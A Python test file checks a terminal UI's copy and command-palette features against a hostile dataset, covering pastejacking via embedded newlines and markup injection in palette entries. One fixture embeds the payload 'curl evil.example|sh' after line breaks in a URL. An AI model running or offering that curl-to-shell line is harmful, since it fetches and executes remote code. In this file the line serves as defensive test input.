"""Copy (y, Y) and the command palette over a hostile dataset (issue 19, points 2 and 10): what
reaches the clipboard has no line break or control character inside a field (pastejacking), the
notice says what was sent rather than claiming success, and every palette entry from data is
drawn as text, never markup."""

from __future__ import annotations

import unicodedata
from pathlib import Path

from rich.text import Text

from tui.data.load import load
from tui.views import Views
from tui.views.copy import detail_text, row_text

ESCAPES = Path(__file__).parents[1] / "hostile" / "escapes-in-text.yaml"
BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
EVIL_URL = "https://example.org/\n\ncurl evil.example|sh\n"


def acts(ch: str) -> bool:
    return unicodedata.category(ch) == "Cc" or ch in BIDI or ch in "\u2028\u2029"


def _lines_are_safe(text: str) -> None:
    assert not any(acts(c) for c in text if c != "\n"), repr(text)
    assert not any(line.strip().startswith("curl ") for line in text.splitlines()), text


def test_copied_rows_and_details_keep_each_field_on_its_line():
    views = Views(load(ESCAPES))
    for pane in ("countries", "meetings", "sources", "memberships"):
        source = views.source(pane)
        for row in source.select(views.latest):
            for fmt in ("text", "markdown"):
                text = row_text(views, source.columns, row, fmt)
                _lines_are_safe(text)
    for kind, rid in (("country", "DE"), ("meeting", "udcg-1"), ("coalition", "udcg")):
        detail = views.detail(kind, rid)
        for fmt in ("text", "markdown"):
            text = detail_text(views, detail, fmt)
            _lines_are_safe(text)
            assert "curl evil.example|sh\\x0a" in text  # the URL is there, escaped, on its own line


async def test_copy_notice_says_what_was_sent(make_app):
    app = make_app(load(ESCAPES))
    notes = []
    original = app.notify
    app.notify = lambda message, **kw: (notes.append(str(message)), original(message, **kw))[1]
    async with app.run_test() as pilot:
        await pilot.pause()
        await pilot.press("y")
        await pilot.pause()
    assert app.last_copied and "\n\ncurl" not in app.last_copied
    sent = [n for n in notes if "clipboard" in n]
    assert sent and not any(n.startswith("Copied") for n in sent), notes
    assert "sent to the terminal clipboard; some terminals ignore it" in sent[-1]


async def test_palette_entries_from_data_are_text_not_markup(make_app):
    from textual.command import CommandPalette

    from tui.ui.commands import RecordsProvider

    app = make_app(load(ESCAPES))
    async with app.run_test() as pilot:
        await pilot.pause()
        await pilot.press("ctrl+p")
        await pilot.pause()
        palette = app.screen
        assert isinstance(palette, CommandPalette)
        provider = RecordsProvider(palette)
        hits = [hit async for hit in provider.search("blink")]
        assert hits, "the venue's meeting is found by its words"
        plains = []
        for hit in hits:
            assert not isinstance(hit.prompt, str)  # a str prompt is parsed as markup by the palette
            plains.append(hit.prompt.plain)
            assert not any(acts(c) for c in plains[-1])
        assert any("[@click=app.quit]Q[/] \\x1b[5m blink" in p for p in plains), plains
        hits = [hit async for hit in provider.search("Q[/]")]  # an unbalanced closing tag as the query
        assert hits
        names = [hit.prompt.plain for hit in [h async for h in provider.search("closing tag")]]
        assert "Unbalanced [/] closing tag [link=https://evil.example]" in names, names
        await pilot.press(*"[/]")
        await pilot.pause()
        assert app.is_running
